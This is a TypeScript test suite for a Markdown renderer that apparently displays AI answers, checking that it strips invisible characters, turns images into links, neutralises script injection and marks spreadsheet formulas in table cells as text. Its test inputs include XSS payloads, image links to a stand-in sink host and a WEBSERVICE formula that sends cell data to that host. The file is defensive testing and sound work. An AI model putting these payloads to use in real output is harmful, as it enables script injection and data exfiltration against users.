// @vitest-environment happy-dom
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { lexAnswer } from './markdown/answer-tokens.ts';
import { linkPictures, markdownHtml } from './markdown-html.ts';

/** The elements of a text, in order. Attributes of links and pictures follow their name. */
function listElements(html: string): string[] {
  const holder = new DOMParser().parseFromString(html, 'text/html');
  return [...holder.body.querySelectorAll('*')].map((element) => {
    // Each block has the direction of its text.
    const attributes = [...element.attributes]
      .filter(({ name, value }) => name !== 'dir' || value !== 'auto')
      .map(({ name, value }) => ` ${name}=${value}`);
    return `${element.localName}${attributes.join('')}`;
  });
}

test('a copied answer has no characters that are not drawn, even as entities', () => {
  const html = markdownHtml('a&#xE0053;&#917587;&shy;&ZeroWidthSpace;&#8203;b &amp; c&nbsp;d `&#8203;`');
  expect(html).toContain('ab &amp; c&nbsp;d');
  expect(html).toContain('<code>&amp;#8203;</code>');
});

describe('a copied answer', () => {
  test.each([
    ['![map](https://sink.test/?d=1)', '[map](https://sink.test/?d=1)'],
    ['!!![map](https://sink.test/?d=1)!', '[map](https://sink.test/?d=1)!'],
    ['![map][1]\n\n[1]: https://sink.test/?d=1', '[map][1]\n\n[1]: https://sink.test/?d=1'],
    [
      '| ![map](https://sink.test/?d=1) |\n|---|\n| ![](//sink.test) |',
      '| [map](https://sink.test/?d=1) |\n|---|\n| [](//sink.test) |',
    ],
    ['[![map](https://sink.test/?d=1)](https://a.test)', '[[map](https://sink.test/?d=1)](https://a.test)'],
    ['Write `![text](address)`!', 'Write `![text](address)`!'],
    ['```\n![text](address)\n```', '```\n![text](address)\n```'],
    ['Wow! [map](https://a.test)', 'Wow! [map](https://a.test)'],
  ])('has links in place of pictures: %j', (markdown, copied) => {
    expect(linkPictures(markdown)).toBe(copied);
  });

  test('has no picture, whatever the answer was', () => {
    const pieces = fc.constantFrom(
      '!',
      '[',
      ']',
      '(https://a.test)',
      '[1]',
      '\\',
      '`',
      '\n',
      '> ',
      '- ',
      '<details>',
      '<summary>',
      'x ',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
        const text = linkPictures(`${parts.join('')}\n\n[1]: https://a.test`);
        expect(JSON.stringify(lexAnswer(text))).not.toContain('"type":"image"');
      }),
      { examples: [[['!', '[', 'x ', ']', '(https://a.test)']], [['!', '[', 'x ', ']', '[1]']]] },
    );
  });
});

describe('Markdown as HTML', () => {
  test('keeps structure and formatting', () => {
    const markdown = '# Tides\n\n- **High** at `six`\n- [now](https://sea.test/?a=1&b=2)\n\n| a |\n|---|\n| 1 |';
    const html = markdownHtml(markdown);
    expect(listElements(html)).toEqual([
      'h3',
      'ul',
      'li',
      'strong',
      'code',
      'li',
      'a href=https://sea.test/?a=1&b=2 title=https://sea.test/?a=1&b=2 rel=noopener noreferrer',
      'table',
      'thead',
      'tr',
      'th',
      'tbody',
      'tr',
      'td',
    ]);
  });

  test.each([
    '<script>alert(1)</script>',
    'a <img src=x onerror=alert(1)> b',
    '[x](javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:x "onmouseover=alert(1)")',
    '[x](https://a.test/"onmouseover="alert(1))',
    '![x](https://a.test/c.png)',
    '![<img src=x onerror=alert(1)>](javascript:x)',
    '`<b onclick=alert(1)>`',
    '```html"><script>\n<script>alert(1)</script>\n```',
    '<svg><script>alert(1)</script></svg>',
    '<details open ontoggle=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '&lt;script&gt;',
    '| <img src=x onerror=alert(1)> |\n|---|\n| <iframe src=//a.test> |',
  ])('of %j runs and loads nothing', (markdown) => {
    for (const element of listElements(markdownHtml(markdown))) {
      expect(element).toMatch(
        /^(?:p|code( class=language-[^ ]*)?|pre|table|thead|tbody|tr|th|td|a href=https:\/\/.*)$/,
      );
    }
  });

  test('never contains other elements than those of Markdown, regardless of the text', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '[',
      ']',
      '(',
      ')',
      '!',
      '`',
      '\n',
      '&',
      '$',
      '\\',
      '|',
      'img',
      'javascript:',
      'https://a.test',
      ' ',
      'onerror=',
      '*',
      '-',
      '#',
      '<br>',
      '<sup>',
      '</sup>',
      '<details>',
      '<summary>',
      '</details>',
      '[^1]',
      '\n[^1]: ',
      '**「',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        for (const element of listElements(markdownHtml(pieces.join('')))) {
          expect(element).toMatch(
            /^(?:p|br|hr|em|strong|del|h[3-6]|ul|li|ol( start=\d+)?|blockquote|pre|code( class=language-\S*)?|sup|details open=|summary|table( dir=rtl)?|thead|tbody|tr|th|td|input.*|a href=https:\/\/a\.test.*)$/,
          );
        }
      }),
      { numRuns: 500 },
    );
  });

  test('shows a block of HTML as text', () => {
    expect(markdownHtml('<script>alert(1)</script>')).toBe('<p>&#60;script&#62;alert(1)&#60;/script&#62;</p>\n');
  });

  test('leads from a citation to its source, and leaves brackets without one', () => {
    const sources = new Map([
      [1, 'https://one.test/'],
      [2, 'javascript:alert(1)'],
    ]);
    expect(markdownHtml('High [1], low [2], none [3].', { sources })).toBe(
      '<p dir="auto">High <a href="https://one.test/" rel="noopener noreferrer">[1]</a>, low [2], none [3].</p>\n',
    );
  });

  test('shows TeX as code if no renderer is given', () => {
    expect(markdownHtml('$a_b < c$')).toBe('<p dir="auto"><code>$a_b &#60; c$</code></p>\n');
  });
});

describe('a cell of a table', () => {
  const findCell = (text: string) => /<td[^>]*>/.exec(markdownHtml(`| a |\n|---|\n| ${text} |`))?.[0];

  test.each(['=WEBSERVICE("https://sink.test/"&A1)', '`=1+1`', '**=1+1**', "@cmd('x')", '\\=1+1', '＝1+1'])(
    'is text for a spreadsheet into which it is pasted: %s',
    (text) => {
      const cell = findCell(text);
      expect(cell).toContain(`style="mso-number-format:'\\@'" sdnum="1033;0;@"`);
      expect(cell).toContain('data-sheets-value="{&#34;1&#34;:2,');
    },
  );

  test.each(['-200', '+49 40 1234', '@maria', '3 = 2 + 1'])('with no formula has no such mark: %s', (text) => {
    expect(findCell(text)).toBe('<td dir="auto">');
  });
});
